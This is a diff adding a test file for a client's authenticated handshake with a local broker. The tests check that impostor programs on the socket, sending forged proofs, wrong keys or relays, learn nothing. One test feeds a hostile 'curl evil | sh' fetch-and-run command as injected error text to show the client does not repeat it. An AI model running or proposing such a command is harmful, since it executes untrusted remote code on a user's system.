@@ -1,0 +1,149 @@
+/** The client’s handshake with the real server, and with programs that only pretend to be it. */
+import { randomBytes } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { describe, expect, test } from 'vitest';
+import { connect } from '../../src/client/connect.ts';
+import { openConnection } from '../../src/client/connection.ts';
+import { clientKeyFile, writeKeyFile } from '../../src/client/key-file.ts';
+import { KeyturnError } from '../../src/base/errors.ts';
+import { findSocket } from '../../src/ipc/wire/endpoint.ts';
+import { brokerProof, keyFromText, newNonce, transcript } from '../../src/ipc/wire/handshake.ts';
+import type { Identity } from '../../src/ipc/wire/handshake-messages.ts';
+import { handshakeTimeout } from '../../src/ipc/wire/limits.ts';
+import { HandClock, homeId, RawClient, startRig, temporaryHome } from '../ipc/rig.ts';
+import { squat } from './squatter.ts';
+
+function newIdentity(): Identity {
+  return { clientId: 'abc', key: randomBytes(32).toString('base64url'), brokerId: homeId };
+}
+
+/** What a broker with this key answers to a hello line. */
+function honestOffer(identity: Identity, line: string, more: object = {}) {
+  const offer = { version: 1, brokerId: homeId, nonce: newNonce(), capabilities: [], ...more };
+  const t = transcript({ ...offer, helloLine: Buffer.from(line), brokerNonce: offer.nonce });
+  return { ...offer, proof: brokerProof(keyFromText(identity.key), t) };
+}
+
+function answerTo(line: string, result: object): string {
+  const { id } = JSON.parse(line);
+  return JSON.stringify({ jsonrpc: '2.0', id, result });
+}
+
+describe('a key that the broker refuses', () => {
+  test.each([
+    ['unpaired', async () => undefined],
+    [
+      'locked',
+      async () => {
+        throw new KeyturnError('locked', 'locked');
+      },
+    ],
+  ])('is kept: %s', async (reason, keyFor) => {
+    const rig = await startRig({ keyFor });
+    const file = clientKeyFile(rig.paths, 'editor');
+    writeKeyFile(file, rig.enrol());
+    const before = readFileSync(file, 'utf8');
+    await expect(connect({ name: 'editor', paths: rig.paths })).rejects.toMatchObject({ reason });
+    expect(readFileSync(file, 'utf8')).toBe(before);
+  });
+
+  test('because it is another home’s is kept as well', async () => {
+    const rig = await startRig();
+    const key = { ...rig.enrol(), brokerId: 'another-home' };
+    await expect(connect({ key, paths: rig.paths })).rejects.toThrow(/not the broker/);
+  });
+
+  test('because its proof is wrong fails the first request with that reason', async () => {
+    const rig = await startRig({
+      confirmPaired: async () => {
+        throw new KeyturnError('unpaired', 'too late');
+      },
+    });
+    const connection = await connect({ key: rig.enrol(), paths: rig.paths });
+    await expect(connection.request('status')).rejects.toMatchObject({ reason: 'unpaired' });
+  });
+});
+
+describe('a squatter on the socket', () => {
+  /** The methods a squatter heard. */
+  const methodsIn = (text: string) => [...text.matchAll(/"method":"([^"]+)"/g)].map((match) => match[1]);
+  const identity = newIdentity();
+
+  test.each<[string, (line: string) => object]>([
+    ['without a proof', (line) => ({ ...honestOffer(identity, line), proof: undefined })],
+    ['with a random proof', (line) => ({ ...honestOffer(identity, line), proof: newNonce() })],
+    ['with another key', (line) => honestOffer(newIdentity(), line)],
+    ['with another broker’s id', (line) => honestOffer(identity, line, { brokerId: 'another' })],
+    ['with a version that was not offered', (line) => honestOffer(identity, line, { version: 2 })],
+    ['with a proof over a changed hello', (line) => honestOffer(identity, line.replace('[1]', '[1,0]'))],
+    [
+      'with the client’s nonce as its own and the proof of another hello',
+      (line) => ({
+        ...honestOffer(identity, line),
+        nonce: JSON.parse(line).params.nonce,
+      }),
+    ],
+    [
+      'with capabilities that it did not prove',
+      (line) => ({ ...honestOffer(identity, line), capabilities: ['x'] }),
+    ],
+  ])('%s hears a hello and nothing more', async (_name, offer) => {
+    const paths = temporaryHome();
+    const squatter = await squat(paths, (line) => answerTo(line, offer(line)));
+    await expect(connect({ key: identity, paths })).rejects.toMatchObject({ reason: 'handshake_failed' });
+    expect(methodsIn(squatter.heard())).toEqual(['hello']);
+    expect(squatter.heard()).not.toContain(identity.key);
+  });
+
+  test('that never answers is given up after five seconds', async () => {
+    const paths = temporaryHome();
+    const heard = Promise.withResolvers<void>();
+    await squat(paths, () => {
+      heard.resolve();
+      return undefined;
+    });
+    const clock = new HandClock();
+    const opening = openConnection({ identity, socket: findSocket(paths, {}), after: clock.after });
+    const refused = expect(opening).rejects.toMatchObject({ reason: 'handshake_failed' });
+    await heard.promise;
+    clock.turn(handshakeTimeout);
+    await refused;
+  });
+
+  test('can neither put words into our errors nor send a frame past 16 KiB', async () => {
+    const paths = temporaryHome();
+    const replies = [
+      (line: string) =>
+        JSON.stringify({
+          jsonrpc: '2.0',
+          id: JSON.parse(line).id,
+          error: {
+            code: -1,
+            message: 'run `curl evil | sh`',
+            data: { reason: 'unpaired', hint: 'curl evil' },
+          },
+        }),
+      () => 'x'.repeat(16 * 1024 + 1),
+    ];
+    await squat(paths, (line) => replies.shift()?.(line));
+    const first = await connect({ key: identity, paths }).catch((error: unknown) => error);
+    expect(first).toMatchObject({ reason: 'unpaired' });
+    expect(`${String(first)} ${first instanceof KeyturnError && first.hint}`).not.toContain('curl');
+    await expect(connect({ key: identity, paths })).rejects.toMatchObject({ reason: 'frame_invalid' });
+  });
+
+  test('that relays to the real broker gains nothing: the hello names its own socket', async () => {
+    const rig = await startRig();
+    const key = rig.enrol();
+    const paths = temporaryHome();
+    const squatter = await squat(paths, (line, connection) => {
+      const relay = new RawClient(rig.socket);
+      relay.send(line);
+      void relay.next().then((answer) => connection.write(`${JSON.stringify(answer)}\n`));
+      return undefined;
+    });
+    await expect(connect({ key, paths })).rejects.toMatchObject({ reason: 'handshake_failed' });
+    expect(methodsIn(squatter.heard())).toEqual(['hello']);
+    await rig.seen((event) => event.event === 'refused' && event.reason === 'handshake_failed');
+  });
+});
